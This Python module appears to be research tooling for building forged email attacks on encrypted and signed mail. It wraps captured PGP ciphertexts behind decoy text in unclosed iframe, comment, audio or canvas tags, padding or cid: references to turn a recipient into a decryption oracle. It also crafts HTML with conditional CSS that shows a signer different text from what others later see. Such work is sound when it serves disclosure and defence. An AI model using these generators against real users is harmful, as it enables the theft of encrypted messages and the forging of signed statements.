"""Generators for covert-content attack emails.

Two families: decryption-oracle messages that smuggle captured ciphertexts
into a benign-looking multipart mail (hidden behind an unclosed iframe,
comment, audio/canvas element, newline padding, or a cid: reference), and
signing-oracle messages whose conditional CSS shows different text to the
signer than to everyone else.

All output is deterministic given the ForgeSpec seed.
"""
from __future__ import annotations

from dataclasses import dataclass
from typing import Union

from . import mime_core
from .mime_core import MimeEntity, leaf, locate_encrypted_parts, make_boundary, multipart

DEFAULT_DECOY = "What's up Johnny?"
DEFAULT_VISIBLE = "What's up Johnny?"
DEFAULT_COVERT = "I hereby declare war."

# The style line shipped with cid-reference forgeries, spacing included.
CID_STYLE_LINE = "<style>fieldset ,br{display:none}</style>"

IFRAME_OPENER = '<iframe height="1" frameborder="0">'


class ForgeError(ValueError):
    pass


class IncompatibleMethod(ForgeError):
    pass


class InvalidCiphertext(ForgeError):
    pass


class EmptyCovertText(ForgeError):
    pass


class UnknownProperty(ForgeError):
    pass


@dataclass(frozen=True)
class ForgeSpec:
    from_addr: str
    to_addr: str
    decoy: str = DEFAULT_DECOY
    seed: int = 0

    def __post_init__(self) -> None:
        for addr in (self.from_addr, self.to_addr):
            if addr.count("@") != 1:
                raise ForgeError(f"address must contain exactly one @: {addr!r}")


# -- hiding methods --------------------------------------------------------------


@dataclass(frozen=True)
class NewlinePadding:
    count: int = 100

    def __post_init__(self) -> None:
        if self.count < 1:
            raise ForgeError("newline padding count must be >= 1")


@dataclass(frozen=True)
class Iframe:
    pass


@dataclass(frozen=True)
class HtmlComment:
    pass


@dataclass(frozen=True)
class AudioElement:
    pass


@dataclass(frozen=True)
class CanvasElement:
    pass


@dataclass(frozen=True)
class CidReference:
    pass


HidingMethod = Union[NewlinePadding, Iframe, HtmlComment, AudioElement, CanvasElement, CidReference]

_OPENERS = {
    Iframe: IFRAME_OPENER,
    HtmlComment: "<!--",
    AudioElement: "<audio>",
    CanvasElement: "<canvas>",
}


# -- signing conditions ------------------------------------------------------------


@dataclass(frozen=True)
class MediaWidth:
    hide_below_px: int = 834
    show_from_px: int = 835

    def __post_init__(self) -> None:
        if self.hide_below_px >= self.show_from_px:
            raise ForgeError("hide_below_px must be smaller than show_from_px")


@dataclass(frozen=True)
class SupportsFeature:
    property: str = "backdrop-filter"
    value: str = "blur(2px)"


@dataclass(frozen=True)
class DocumentUrlPrefix:
    url: str = "imap://general@good.com"


@dataclass(frozen=True)
class ProprietaryClient:
    token: str

    def __post_init__(self) -> None:
        if self.token not in ("wlm", "mso", "owa", "moz"):
            raise ForgeError(f"unknown client token: {self.token!r}")


SigningCondition = Union[MediaWidth, SupportsFeature, DocumentUrlPrefix, ProprietaryClient]


# -- decryption-oracle forgery -----------------------------------------------------


def _address_headers(spec: ForgeSpec) -> tuple[tuple[str, str], ...]:
    return (("From", spec.from_addr), ("To", spec.to_addr))


def _as_ciphertext_entity(item: MimeEntity | str | bytes) -> MimeEntity:
    if isinstance(item, (str, bytes)):
        text = item.decode("utf-8", errors="replace") if isinstance(item, bytes) else item
        if mime_core.ARMOR_BEGIN not in text:
            raise InvalidCiphertext("armor text without a PGP MESSAGE block")
        return leaf("text/plain", text)
    hits = locate_encrypted_parts(item)
    if not any(h.path.is_root for h in hits):
        raise InvalidCiphertext(
            f"entity {item.content_type.full} is not a recognized ciphertext"
        )
    return item


def forge_decryption_oracle(
    spec: ForgeSpec,
    ciphertexts: list[MimeEntity | str | bytes],
    method: HidingMethod,
    *,
    append_closer: bool = False,
) -> MimeEntity:
    """Wrap captured ciphertexts into a benign-looking message.

    The decoy part comes first; the ciphertext parts ride behind it, hidden
    per the chosen method. The hiding container is left unclosed by default;
    append_closer adds a trailing attacker part that closes it, for clients
    that refuse unterminated markup.
    """
    if not ciphertexts:
        raise IncompatibleMethod("at least one ciphertext is required")
    parts = [_as_ciphertext_entity(c) for c in ciphertexts]
    boundary = make_boundary(spec.seed, 0)
    trailer = [closing_part(method)] if append_closer and closing_part(method) else []

    if isinstance(method, NewlinePadding):
        decoy = leaf("text/plain", spec.decoy + "\n" * method.count)
        return multipart(
            "mixed", [decoy, *parts], boundary, headers=_address_headers(spec)
        )

    if isinstance(method, CidReference):
        refs = "\n".join(f'<img src="cid:target_{i}">' for i in range(len(parts)))
        decoy = leaf(
            "text/html",
            f"{spec.decoy}\n\n{CID_STYLE_LINE}\n{refs}\n",
        )
        tagged = [
            part.with_headers(
                (mime_core.HeaderField("Content-ID", f"<target_{i}>"),) + part.headers
            )
            for i, part in enumerate(parts)
        ]
        return multipart(
            "related", [decoy, *tagged], boundary, headers=_address_headers(spec)
        )

    opener = _OPENERS.get(type(method))
    if opener is None:
        raise IncompatibleMethod(f"unsupported hiding method: {method!r}")
    decoy = leaf("text/html", f"{spec.decoy}\n{opener}\n")
    return multipart(
        "mixed", [decoy, *parts, *trailer], boundary, headers=_address_headers(spec)
    )


def closing_part(method: HidingMethod) -> MimeEntity | None:
    """Optional trailing attacker part that closes the hiding container, for
    clients that refuse to render an unterminated element."""
    closers = {Iframe: "</iframe>", HtmlComment: "-->", AudioElement: "</audio>", CanvasElement: "</canvas>"}
    closer = closers.get(type(method))
    return leaf("text/html", closer) if closer else None


# -- signing-oracle forgery ---------------------------------------------------------

_REVEAL_DECLS = (
    "visibility: visible !important; position: absolute; top: 8px; left: 8px;"
)


def _reveal_block(prelude: str) -> str:
    return (
        f"{prelude} {{\n"
        f"  * {{visibility: hidden;}}\n"
        f"  .covert {{{_REVEAL_DECLS}}}\n"
        f"}}"
    )


def _style_for_condition(condition: SigningCondition) -> str:
    if isinstance(condition, MediaWidth):
        return (
            "<style>\n"
            f"@media (max-device-width: {condition.hide_below_px}px) {{\n"
            "  .covert {visibility: hidden;}\n"
            "}\n"
            + _reveal_block(f"@media (min-device-width: {condition.show_from_px}px)")
            + "\n</style>"
        )
    if isinstance(condition, SupportsFeature):
        return (
            "<style>\n"
            + _reveal_block(f"@supports ({condition.property}: {condition.value})")
            + "\n</style>"
        )
    if isinstance(condition, DocumentUrlPrefix):
        return (
            "<style>\n"
            + _reveal_block(f'@-moz-document url-prefix("{condition.url}")')
            + "\n</style>"
        )
    token = condition.token
    if token in ("mso", "wlm"):
        marker = "mso" if token == "mso" else "IE"
        return (
            f"<!--[if {marker}]><style>\n"
            "* {visibility: hidden;}\n"
            f".covert {{{_REVEAL_DECLS}}}\n"
            "</style><![endif]-->"
        )
    if token == "owa":
        return (
            "<style>\n"
            ".ExternalClass *, [owa] * {visibility: hidden;}\n"
            f".ExternalClass .covert, [owa] .covert {{{_REVEAL_DECLS}}}\n"
            "</style>"
        )
    return (
        "<style>\n"
        ".moz-text-html * {visibility: hidden;}\n"
        f".moz-text-html .covert {{{_REVEAL_DECLS}}}\n"
        "</style>"
    )


def forge_signing_oracle(
    spec: ForgeSpec,
    visible_text: str,
    covert_text: str,
    condition: SigningCondition,
) -> MimeEntity:
    """Build an HTML message that shows visible_text to the target signer and
    covert_text wherever the condition holds."""
    if not covert_text:
        raise EmptyCovertText("covert text must be non-empty")
    if visible_text == covert_text:
        raise ForgeError("visible and covert text must differ")
    body = (
        f"{_style_for_condition(condition)}\n\n"
        f"{visible_text}\n"
        f'<div class="covert" style="visibility: hidden">{covert_text}</div>\n'
    )
    return leaf("text/html", body, headers=_address_headers(spec))


# -- blinding declarations ------------------------------------------------------------

# property -> (show value, hide value); hide values are the exact text-hiding pairs.
BLINDING_TABLE: dict[str, tuple[str, str]] = {
    "display": ("initial;", "none;"),
    "visibility": ("visible;", "hidden;"),
    "opacity": ("1;", "0;"),
    "clip-path": ("initial;", "polygon(0px 0px, 0px 0px, 0px 0px, 0px 0px);"),
    "position": ("static;", "absolute; top: -9999px; left: -9999px;"),
    "color": ("initial;", "transparent;"),
    "font-size": ("initial;", "0;"),
}

BLINDING_PROPERTIES = tuple(BLINDING_TABLE)


def blinding_declaration(property: str, mode: str) -> str:
    """The exact show/hide declaration for one of the seven blinding properties."""
    if property not in BLINDING_TABLE:
        raise UnknownProperty(f"not a blinding property: {property!r}")
    if mode not in ("show", "hide"):
        raise ForgeError(f"mode must be 'show' or 'hide', got {mode!r}")
    show, hide = BLINDING_TABLE[property]
    return f"{property}: {show}" if mode == "show" else f"{property}: {hide}"
